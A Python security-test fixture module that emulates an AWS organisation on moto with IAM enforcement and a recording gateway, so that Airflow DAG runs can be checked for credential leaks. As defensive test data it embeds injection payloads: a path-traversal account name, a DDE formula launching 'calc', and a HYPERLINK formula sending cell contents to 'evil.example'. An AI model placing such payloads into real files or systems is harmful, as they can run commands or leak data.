"""
The security tests' world: an emulated organisation on moto's server with IAM enforced, behind the loopback
gateway, and full DAG runs against it whose every output can be searched for credentials.

Identities, as in a deployment:

- ``airflow-worker`` — an IAM user in the payer account with an (AKIA) access key: the Airflow workers'
  own identity, allowed only ``sts:AssumeRole`` on ``CMDBApplication``. Its keys are the connection's
  login/password, and the connection's ``role_arn`` is ``CMDBApplication``.
- ``CMDBApplication`` (payer) and ``CMDBDiscovery`` (every account) are the stacks moto's CloudFormation
  deploys from ``include/iam`` (``CMDBApplication`` with the bucket, prefix, topic and KMS key of this
  world; :mod:`devtools.world` builds them). Only the hub's trust policy differs from the template's
  default: it names the worker user (the template's ``TrustedPrincipal`` takes a role or a service, which
  moto cannot log in as).
- ``security-admin`` — a test-side user in every account, allowed everything, to read results back after
  enforcement is on (its calls are never counted as the product's).

The gateway records every request (headers and parameters) and every credential STS minted, emulates
``ExpectedBucketOwner`` (403 when the header names another account than the bucket's owner; moto ignores
it) and S3's 403 for a missing key when the caller's ``s3:ListBucket`` does not cover it.
"""

from __future__ import annotations

import contextlib
import copy
import gzip
import json
import os
import re
import sqlite3
import subprocess
import time
import urllib.request
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import boto3

from devtools import sandbox
from devtools import world as builder
from devtools.gateway import AwsGateway, Call, Request
from devtools.iam_templates import DeployedRole
from devtools.servers import MotoServer
from devtools.world import PAYER, Server, World

ROOT = sandbox.ROOT
REGIONS = ["eu-west-1", "us-east-1"]
HOME_REGION = builder.HOME_REGION
BUCKET = builder.BUCKET
TOPIC = builder.TOPIC
PREFIX = "cmdb/ec2-inventory"
FOREIGN_BUCKET = "other-corp-cmdb"
FOREIGN_ACCOUNT = "999999999999"
WORKER = "airflow-worker"
ADMIN = "security-admin"
HUB_ROLE_ARN = f"arn:aws:iam::{PAYER}:role/{builder.HUB_ROLE}"
KEY_PATTERN = re.compile(r"(?:AKIA|ASIA)[A-Z0-9]{16}")

# Accounts of the successful run: hostile names (a path, "..", unicode, RTL override, a formula).
GOOD_ACCOUNTS = {
    PAYER: "Payer",
    "222222222222": "Dev/../../etc/passwd ☃ \u202egnp.exe",
    "333333333333": "=cmd|' /C calc'!A0, \"QA\"",
}
NO_DESCRIBE_REGIONS = "444444444444"  # its CMDBDiscovery lacks ec2:DescribeRegions
NO_DESCRIBE_INSTANCES = "555555555555"  # its CMDBDiscovery lacks ec2:DescribeInstances
ASSUME_DENIED = "666666666666"  # AssumeRole into it is refused (403 AccessDenied at the gateway)
DENIED_ACCOUNTS = {
    PAYER: "Payer",
    NO_DESCRIBE_REGIONS: "No DescribeRegions",
    NO_DESCRIBE_INSTANCES: "No DescribeInstances",
    ASSUME_DENIED: "Trust broken",
}
CRIPPLED = {NO_DESCRIBE_REGIONS: "ec2:DescribeRegions", NO_DESCRIBE_INSTANCES: "ec2:DescribeInstances"}

# Tag values that must reach the CSV intact (neutralised) through EC2's XML. NUL cannot travel in XML
# (EC2 refuses it) and a lone CR comes back as LF: both are covered in-process by the property tests.
HOSTILE_TAGS: tuple[tuple[str, str], ...] = (
    ("Owner", "@mallory"),
    ("Cost", "=1+1"),
    ("Plus", "+SUM(A1:A9)"),
    ("Minus", "-2+3"),
    ("Tab", "\tindented"),
    ("Quote", "say \"hi\", then 'bye'"),
    ("Multi", "line one\nline two"),
    ("Rtl", "\u202eexe.txt"),
    ("Emoji", "🚀🔥"),
    ("Long", "x" * 256),
    ("Comma,Key", "a,b,c"),
)
HOSTILE_SERVERS = [
    Server("us-east-1", '=HYPERLINK("http://evil.example/?q="&A1,"click")', tags=HOSTILE_TAGS),
    Server("eu-west-1", "+cmd", tags=tuple((f"t{n:02d}", f"-v{n}") for n in range(49))),  # 50 tags
    Server("eu-west-1", "émoji 🚀 ‏rtl", state="stopped"),
]


def good_world() -> World:
    """The accounts of the successful run and the crippled ones of the denied run, with servers."""
    return World(
        accounts={**GOOD_ACCOUNTS, **DENIED_ACCOUNTS},
        servers={
            PAYER: [Server("us-east-1", "hub-1"), Server("eu-west-1", "hub-eu", state="stopped")],
            "222222222222": HOSTILE_SERVERS,
            "333333333333": [Server("us-east-1", "@test", count=2), Server("ap-northeast-1", "not-scanned")],
            NO_DESCRIBE_REGIONS: [Server("eu-west-1", "fallback-1")],
            NO_DESCRIBE_INSTANCES: [Server("us-east-1", "invisible-1")],
            ASSUME_DENIED: [Server("us-east-1", "unreachable-1")],
        },
    )


# --------------------------------------------------------------------------- moto with IAM enforced


def _post(url: str, body: bytes) -> None:
    # Loopback URLs this module built.
    request = urllib.request.Request(url, data=body, method="POST", headers={"Content-Type": "text/plain"})  # noqa: S310
    urllib.request.urlopen(request, timeout=30).close()  # noqa: S310


def set_enforcement(moto_url: str, *, on: bool) -> None:
    """Switch moto's IAM enforcement (``/moto-api/reset-auth``: the free action budget, then a restart)."""
    _post(f"{moto_url}/moto-api/reset-auth", b"0" if on else b"inf")


@contextlib.contextmanager
def enforcing_moto() -> Iterator[str]:
    """``tests.security.moto_iam_server`` as a subprocess (its own process group) on a free loopback port."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    # Free actions until set_enforcement(on=True): the world is seeded first.
    env.update(INITIAL_NO_AUTH_ACTION_COUNT="inf", PYTHONPATH=str(ROOT), NO_PROXY="*")
    with MotoServer("tests.security.moto_iam_server", env) as server:
        yield server.url


# --------------------------------------------------------------------------- the recording gateway

_SECRET_RES = (
    re.compile(rb"<AccessKeyId>\s*([^<\s]+)\s*</AccessKeyId>"),
    re.compile(rb"<SecretAccessKey>\s*([^<\s]+)\s*</SecretAccessKey>"),
    re.compile(rb"<SessionToken>\s*([^<\s]+)\s*</SessionToken>"),
)


@dataclass(frozen=True)
class Seen:
    """One request as it went over the wire (header names lower case, first value of each parameter)."""

    seq: int
    service: str
    action: str
    method: str
    region: str
    access_key: str
    bucket: str | None
    key: str | None
    headers: dict[str, str]
    params: dict[str, str]


class RecordingGateway(AwsGateway):
    """The gateway, also keeping every request and every credential that STS or IAM handed out."""

    def __init__(self, **kwargs: Any) -> None:
        super().__init__(**kwargs)
        self.seen: list[Seen] = []
        self.minted: set[str] = set()
        self.add_rule(None, when=self._see)

    def _see(self, req: Request) -> bool:
        params = {k: v[0] for k, v in {**req.query, **req.params}.items() if v}
        headers = {k.lower(): str(v) for k, v in req.headers.items()}
        self.seen.append(
            Seen(
                len(self.seen),
                req.service,
                req.action,
                req.method,
                req.region,
                req.access_key,
                req.bucket,
                req.key,
                headers,
                params,
            )
        )
        return False

    def _learn(self, req: Request, body: bytes) -> None:
        for pattern in _SECRET_RES:
            self.minted.update(m.decode() for m in pattern.findall(body))
        super()._learn(req, body)

    def mark(self) -> int:
        """A position in ``seen``: ``since(mark)`` is what came after."""
        return len(self.seen)

    def since(self, mark: int) -> list[Seen]:
        """Requests after ``mark``."""
        return self.seen[mark:]


# --------------------------------------------------------------------------- seeding


@dataclass
class Org:
    """The seeded, enforced world: where it is, who is who, and what to expect."""

    moto_url: str
    gateway: RecordingGateway
    migrated_db: Path
    world: World
    instances: dict[str, list[dict[str, str]]]
    worker_key: dict[str, str]
    admin_keys: dict[str, dict[str, str]]
    topic_arn: str
    queue_url: str
    kms_key_arn: str
    hub_role: DeployedRole
    """``CMDBApplication`` as CloudFormation deployed it from the template (before the worker's trust)."""
    discovery_roles: dict[str, DeployedRole]
    """Each account's ``CMDBDiscovery`` as CloudFormation deployed it (before any was crippled)."""

    @property
    def admin_key(self) -> dict[str, str]:
        """The payer's test-side admin key."""
        return self.admin_keys[PAYER]

    def admin(
        self, service: str, region: str = HOME_REGION, *, account: str = PAYER, via_gateway: bool = False
    ) -> Any:
        """A client of an account's all-powerful test-side user (straight to moto unless ``via_gateway``)."""
        key = self.admin_keys[account]
        return boto3.client(
            service,
            endpoint_url=self.gateway.url if via_gateway else self.moto_url,
            region_name=region,
            aws_access_key_id=key["AccessKeyId"],
            aws_secret_access_key=key["SecretAccessKey"],
        )

    def admin_access_keys(self) -> set[str]:
        """The access key ids of the test-side admins (their calls are not the product's)."""
        return {key["AccessKeyId"] for key in self.admin_keys.values()}

    def worker_session(self) -> boto3.session.Session:
        """The Airflow workers' own identity (the IAM user)."""
        return boto3.session.Session(
            aws_access_key_id=self.worker_key["AccessKeyId"],
            aws_secret_access_key=self.worker_key["SecretAccessKey"],
            region_name=HOME_REGION,
        )

    def assume(self, session: boto3.session.Session, role_arn: str) -> boto3.session.Session:
        """A session of ``role_arn`` assumed from ``session`` (through moto, enforcement applies)."""
        sts = session.client("sts", endpoint_url=self.moto_url)
        creds = sts.assume_role(RoleArn=role_arn, RoleSessionName="security-test")["Credentials"]
        return boto3.session.Session(
            aws_access_key_id=creds["AccessKeyId"],
            aws_secret_access_key=creds["SecretAccessKey"],
            aws_session_token=creds["SessionToken"],
            region_name=HOME_REGION,
        )

    def connection(self) -> dict[str, Any]:
        """The hub connection: the worker's keys, then CMDBApplication, everything through the gateway."""
        return {
            "conn_type": "aws",
            "login": self.worker_key["AccessKeyId"],
            "password": self.worker_key["SecretAccessKey"],
            "extra": {
                "region_name": HOME_REGION,
                "endpoint_url": self.gateway.url,
                "role_arn": HUB_ROLE_ARN,
                "service_config": {"sts": {"endpoint_url": self.gateway.url}},
            },
        }

    def variable(self, accounts: Mapping[str, str], **extra: Any) -> dict[str, Any]:
        """The Variable for ``accounts`` (id -> name) with every S3 control switched on."""
        return {
            "accounts": [{"id": a, "name": n} for a, n in accounts.items()],
            "bucket": BUCKET,
            "prefix": PREFIX,
            "sns_topic_arn": self.topic_arn,
            "hub_region": HOME_REGION,
            "regions": REGIONS,
            "expected_bucket_owner": PAYER,
            "kms_key_id": self.kms_key_arn,
            **extra,
        }

    def secrets(self) -> set[str]:
        """Every credential of the product's identities: the worker's keys and every minted session's."""
        return {self.worker_key["AccessKeyId"], self.worker_key["SecretAccessKey"], *self.gateway.minted}


def _user_with_key(iam: Any, name: str, policy: Mapping[str, Any]) -> dict[str, str]:
    iam.create_user(UserName=name)
    iam.put_user_policy(UserName=name, PolicyName=name, PolicyDocument=json.dumps(policy))
    key = iam.create_access_key(UserName=name)["AccessKey"]
    return {"AccessKeyId": key["AccessKeyId"], "SecretAccessKey": key["SecretAccessKey"]}


def seed(moto_url: str, gateway: RecordingGateway, migrated_db: Path) -> Org:
    """Build the world with enforcement off, then switch enforcement on."""
    world = good_world()
    built = builder.build(moto_url, world, kms_key=True, hub_parameters={"Prefix": PREFIX})
    assert built.hub_role is not None, "built on a fresh server"
    payer = builder.session_in(moto_url, PAYER)
    iam = payer.client("iam", endpoint_url=moto_url)

    # The hub keeps the deployed policies; its trust names the worker.
    worker_arn = f"arn:aws:iam::{PAYER}:user/{WORKER}"
    trust = copy.deepcopy(built.hub_role.assume_role_policy)
    for statement in trust["Statement"]:
        statement["Principal"] = {"AWS": worker_arn}
    iam.update_assume_role_policy(RoleName=built.hub_role.role_name, PolicyDocument=json.dumps(trust))
    worker_key = _user_with_key(
        iam,
        WORKER,
        {
            "Version": "2012-10-17",
            "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole", "Resource": HUB_ROLE_ARN}],
        },
    )
    everything = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
    admin_keys = {PAYER: _user_with_key(iam, ADMIN, everything)}
    for account_id in world.accounts:
        if account_id != PAYER:
            member_iam = builder.session_in(moto_url, account_id).client("iam", endpoint_url=moto_url)
            admin_keys[account_id] = _user_with_key(member_iam, ADMIN, everything)

    # Two member accounts whose CMDBDiscovery lacks one of its two actions (the negative run).
    for account_id, action in CRIPPLED.items():
        member_iam = builder.session_in(moto_url, account_id).client("iam", endpoint_url=moto_url)
        role = built.discovery_roles[account_id]
        for name, document in role.policies.items():
            crippled = copy.deepcopy(document)
            for statement in crippled["Statement"]:
                statement["Action"] = [a for a in statement["Action"] if a != action]
            member_iam.put_role_policy(
                RoleName=role.role_name, PolicyName=name, PolicyDocument=json.dumps(crippled)
            )

    # A bucket of another account, for the ExpectedBucketOwner test.
    builder.session_in(moto_url, FOREIGN_ACCOUNT).client("s3", endpoint_url=moto_url).create_bucket(
        Bucket=FOREIGN_BUCKET
    )

    org = Org(
        moto_url=moto_url,
        gateway=gateway,
        migrated_db=migrated_db,
        world=world,
        instances=built.instances,
        worker_key=worker_key,
        admin_keys=admin_keys,
        topic_arn=str(built.topic_arn),
        queue_url=str(built.queue_url),
        kms_key_arn=str(built.kms_key_arn),
        hub_role=built.hub_role,
        discovery_roles=built.discovery_roles,
    )
    _add_s3_rules(org)
    gateway.deny_assume_role(f"arn:aws:iam::{ASSUME_DENIED}:role/{builder.DISCOVERY_ROLE}")
    set_enforcement(moto_url, on=True)
    return org


def _add_s3_rules(org: Org) -> None:
    """What AWS S3 does and moto does not: ExpectedBucketOwner, and 403 for a key the caller cannot list."""
    owners = {BUCKET: PAYER, FOREIGN_BUCKET: FOREIGN_ACCOUNT}
    admin_s3 = org.admin("s3")

    def wrong_owner(req: Request) -> bool:
        expected = req.headers.get("x-amz-expected-bucket-owner")
        return expected is not None and req.bucket is not None and owners.get(req.bucket) != expected

    def missing_key(req: Request) -> bool:
        if req.access_key in org.admin_access_keys() or not req.bucket or not req.key:
            return False
        try:
            admin_s3.head_object(Bucket=req.bucket, Key=req.key)
        except admin_s3.exceptions.ClientError:
            return True
        return False

    org.gateway.fail(403, "AccessDenied", "Access Denied", service="s3", when=wrong_owner)
    org.gateway.fail(403, "AccessDenied", "Access Denied", service="s3", action="GetObject", when=missing_key)


# --------------------------------------------------------------------------- runs and what they leave


@dataclass
class Run:
    """One ``airflow dags test`` against the world, and where it left things."""

    ds: str
    home: Path
    variable: dict[str, Any]
    result: subprocess.CompletedProcess[str]
    requests: list[Seen]
    calls: list[Call]
    messages: list[str]
    seconds: float

    @property
    def output(self) -> str:
        """stdout and stderr of the run."""
        return self.result.stdout + self.result.stderr


def drain_queue(org: Org) -> list[str]:
    """Every message waiting in the CMDB team's queue (notifications and failure alerts)."""
    sqs = org.admin("sqs")
    bodies: list[str] = []
    while True:
        got = sqs.receive_message(QueueUrl=org.queue_url, MaxNumberOfMessages=10, WaitTimeSeconds=0)
        messages = got.get("Messages", [])
        if not messages:
            return bodies
        for message in messages:
            bodies.append(message["Body"])
            sqs.delete_message(QueueUrl=org.queue_url, ReceiptHandle=message["ReceiptHandle"])


def run_dag(org: Org, home: Path, variable: dict[str, Any], ds: str, *, debug: bool = False) -> Run:
    """A full DAG run with Airflow's test runner (its own copy of the migrated database in ``home``)."""
    import shutil

    home.mkdir(parents=True, exist_ok=True)
    shutil.copy(org.migrated_db, home / "airflow.db")
    env = sandbox.airflow_env(home, org.connection(), variable)
    if debug:
        # Everything at DEBUG, botocore included: Airflow's stdlib handler drops DEBUG records unless the
        # global level is DEBUG ([logging] namespace_levels only reaches structlog's own loggers).
        env["AIRFLOW__LOGGING__LOGGING_LEVEL"] = "DEBUG"
    drain_queue(org)
    mark, call_mark = org.gateway.mark(), len(org.gateway.calls())
    started = time.monotonic()
    result = sandbox.dags_test(env, ds)
    seconds = time.monotonic() - started
    calls = org.gateway.calls()[call_mark:]
    return Run(ds, home, variable, result, org.gateway.since(mark), calls, drain_queue(org), seconds)


def csv_rows(org: Org, ds: str) -> list[list[str]]:
    """The date's CSV, parsed (header first)."""
    import csv
    import io

    body = org.admin("s3").get_object(Bucket=BUCKET, Key=f"{PREFIX}/ds={ds}/ec2_inventory.csv")["Body"]
    return list(csv.reader(io.StringIO(body.read().decode("utf-8"), newline="")))


def manifest(org: Org, ds: str) -> dict[str, Any]:
    """The date's manifest."""
    body = org.admin("s3").get_object(Bucket=BUCKET, Key=f"{PREFIX}/ds={ds}/manifest.json")["Body"]
    return dict(json.loads(body.read()))


def bucket_texts(org: Org) -> dict[str, str]:
    """Every object in the bucket (gzip parts decompressed), as text: key -> body."""
    s3 = org.admin("s3")
    texts: dict[str, str] = {}
    for page in s3.get_paginator("list_objects_v2").paginate(Bucket=BUCKET):
        for item in page.get("Contents", []):
            body = s3.get_object(Bucket=BUCKET, Key=item["Key"])["Body"].read()
            if body[:2] == b"\x1f\x8b":
                body = gzip.decompress(body)
            texts[item["Key"]] = body.decode("utf-8", "replace")
    return texts


def airflow_texts(home: Path) -> dict[str, str]:
    """Every log file under the Airflow home and every row of every table of its metadata database."""
    texts: dict[str, str] = {}
    for path in sorted((home / "logs").rglob("*")) if (home / "logs").exists() else []:
        if path.is_file():
            texts[str(path.relative_to(home))] = path.read_text("utf-8", "replace")
    with contextlib.closing(sqlite3.connect(home / "airflow.db")) as db:
        tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        for table in tables:
            rows = db.execute(f'SELECT * FROM "{table}"').fetchall()  # noqa: S608 - names from sqlite_master
            cells = [
                c.decode("utf-8", "replace") if isinstance(c, bytes) else str(c) for r in rows for c in r
            ]
            texts[f"db:{table}"] = "\n".join(cells)
    return texts


def query(home: Path, sql: str, *args: Any) -> list[tuple[Any, ...]]:
    """Rows of a query on the run's metadata database."""
    with contextlib.closing(sqlite3.connect(home / "airflow.db")) as db:
        return list(db.execute(sql, args))
